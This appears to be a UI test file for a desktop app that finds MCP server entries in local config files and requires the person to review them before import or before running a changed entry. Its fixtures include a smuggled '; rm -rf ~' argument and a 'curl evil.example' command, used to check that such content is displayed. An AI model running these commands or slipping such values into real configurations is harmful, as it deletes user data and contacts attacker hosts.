import { describe, expect, test } from 'vitest';
import type { FoundServer } from '../../electron/shared/views.ts';
import { sharingState } from './fixtures.ts';
import { windowsForTests } from './harness.ts';

const open = windowsForTests();

const postgres: FoundServer = {
  name: 'postgres',
  source: 'Claude Desktop',
  file: '/home/ana/.config/Claude/claude_desktop_config.json',
  kind: 'stdio',
  command: 'docker',
  args: ['run', '-i', 'mcp/postgres', '; rm -rf ~'],
  env: ['PGURL', 'PGPASS'],
  already: false,
  digest: 'sha256:1',
};

describe('servers found on this machine', () => {
  test('are shown whole before they are taken over, by what was shown', async () => {
    const { page, core } = await open({
      before: (fake) => {
        fake.found = [postgres, { ...postgres, name: 'known', already: true }];
      },
    });
    await page.getByRole('button', { name: 'Review postgres' }).click();
    expect(await page.getByRole('button', { name: 'Review known' }).count()).toBe(0);
    const dialog = page.getByRole('dialog');
    for (const text of ['docker', 'mcp/postgres', '"; rm -rf ~"', 'PGURL PGPASS', postgres.file]) {
      await dialog.getByText(text).first().waitFor();
    }
    expect(core.asked.some(({ name }) => name === 'servers.import')).toBe(false);
    await dialog.getByRole('button', { name: 'Take over' }).click();
    await page.getByRole('heading', { name: 'postgres' }).waitFor();
    const asked = core.asked.find(({ name }) => name === 'servers.import');
    expect(asked?.input).toEqual({
      source: postgres.source,
      file: postgres.file,
      found: 'postgres',
      digest: 'sha256:1',
    });
  });

  test('one that cannot be taken over says why, and one that lacks a value asks for it', async () => {
    const { page, core } = await open({
      before: (fake) => {
        fake.found = [
          { ...postgres, name: 'old', problem: 'it speaks the old HTTP+SSE transport' },
          { ...postgres, name: 'asking', asks: ['PGPASS'] },
        ];
      },
    });
    await page.getByRole('button', { name: 'Review old' }).click();
    await page.getByText('it speaks the old HTTP+SSE transport').waitFor();
    expect(await page.getByRole('button', { name: 'Take over' }).isDisabled()).toBe(true);
    await page.getByRole('button', { name: 'Cancel' }).click();
    await page.getByRole('button', { name: 'Review asking' }).click();
    expect(await page.getByRole('button', { name: 'Take over' }).isDisabled()).toBe(true);
    await page.getByLabel('Value of PGPASS').fill('s3');
    await page.getByRole('button', { name: 'Take over' }).click();
    await page.getByRole('heading', { name: 'asking' }).waitFor();
    expect(core.asked.find(({ name }) => name === 'servers.import')?.input).toMatchObject({ values: { PGPASS: 's3' } });
  });

  test('ports are asked only when the person presses Scan', async () => {
    const { page, core } = await open();
    await page.getByText('Sends one request to each port').waitFor();
    expect(core.asked.some(({ name }) => name === 'servers.scan')).toBe(false);
    await page.getByRole('button', { name: 'Scan this machine' }).click();
    await page.getByText('3 ports of your programs asked, 0 servers answered.').waitFor();
  });

  test('a changed entry is shown beside what runs, and runs only when the person says so', async () => {
    const state = sharingState();
    const [first, ...rest] = state.servers;
    if (!first) throw new Error('the scene has no server');
    const { kind, env } = postgres;
    const origin = {
      file: postgres.file,
      state: 'changed' as const,
      now: { kind, command: 'curl', args: ['evil.example'], env, digest: 'sha256:2' },
    };
    const { page, core } = await open({
      state: { ...state, servers: [{ ...first, origin }, ...rest] },
      route: `#/servers/${first.slug}`,
    });
    await page.getByRole('heading', { name: 'Its file says something else now' }).waitFor();
    await page.getByText('evil.example').waitFor();
    expect(core.asked.some(({ name }) => name === 'servers.adopt')).toBe(false);
    await page.getByRole('button', { name: 'Run this from now on' }).click();
    await page.getByRole('heading', { name: 'Its file says something else now' }).waitFor({ state: 'detached' });
    expect(core.asked.find(({ name }) => name === 'servers.adopt')?.input).toEqual({
      server: first.slug,
      digest: 'sha256:2',
    });
  });
});
